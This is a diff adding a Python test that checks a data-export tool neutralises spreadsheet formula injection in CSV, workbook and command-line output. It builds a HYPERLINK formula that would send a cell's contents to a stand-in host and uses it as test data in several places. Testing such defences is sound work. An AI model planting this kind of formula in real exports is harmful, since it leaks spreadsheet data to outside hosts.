@@ -352,3 +352,52 @@ def test_a_seed_a_spreadsheet_would_round_is_written_as_text(tmp_path: Path) -> 
     assert rep.value == 0  # a small identifier stays a number
     assert sheet[3][column["Seed"]].value == "7"  # the column is one kind: text throughout
     assert pd.read_csv(folder / "members.csv")["Seed"].tolist() == [seed, 7]
+
+
+def test_no_cell_is_written_as_a_formula_a_spreadsheet_would_run(
+    tmp_path: Path, run_cli: Any
+) -> None:
+    """A claim's speaker ``=HYPERLINK(…)`` was written to CSV and to the workbook as a live
+    formula (s11 breaker F17): texts that start like a formula are kept as text (a leading
+    ``'`` in CSV, a text cell in the workbook); numbers, negative ones too, stay numbers."""
+    from channelsim.formatting import inert
+
+    link = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
+    assert [inert(v) for v in (link, "@SUM(1+1)", "+1", "-35.5", "-1,234", -3, "Calais")] == [
+        "'" + link, "'@SUM(1+1)", "+1", "-35.5", "-1,234", -3, "Calais",
+    ]  # fmt: skip
+    folder = tmp_path / "out"
+    folder.mkdir()
+    pd.DataFrame({"figure": [link, "-x"], "median": [-5.0, 1.0]}).to_parquet(
+        folder / "claims.parquet", index=False
+    )
+    export_folder(folder)
+    csv = pd.read_csv(folder / "claims.csv")
+    assert csv.iloc[:, 0].tolist() == ["'" + link, "'-x"]
+    assert csv["median"].tolist() == [-5.0, 1.0]
+    sheet = load_workbook(folder / WORKBOOK)["claims"]
+    cell = sheet.cell(row=2, column=1)
+    assert cell.value == link and cell.data_type == "s"
+    assert sheet.cell(row=1, column=4).value == "median"
+    assert sheet.cell(row=2, column=4).value == -5
+    # the command line's CSV (claims --format csv)
+    claims = tmp_path / "claims.yaml"
+    claims.write_text(
+        "claims:\n"
+        "  - id: a\n"
+        f"    speaker: '{link}'\n"
+        "    quote: More than a thousand.\n"
+        "    unit: people\n"
+        "    said_on: 2025-06-01\n"
+        "    metric: arrived_people\n"
+        "    period: {kind: rolling_months, months: 12}\n"
+        "    comparison: more_than\n"
+        "    figure: 1000\n",
+        encoding="utf-8",
+    )
+    from spreadsheets import make_rows, write_publication
+
+    data = write_publication(tmp_path / "pub.ods", *make_rows(dt.date(2024, 4, 29), 400))
+    result = run_cli("claims", claims, "--data", data, "--format", "csv")
+    assert result.exit_code == 0, result.stderr
+    assert f"'{link}".replace('"', '""') in result.stdout and ",=HYPERLINK" not in result.stdout
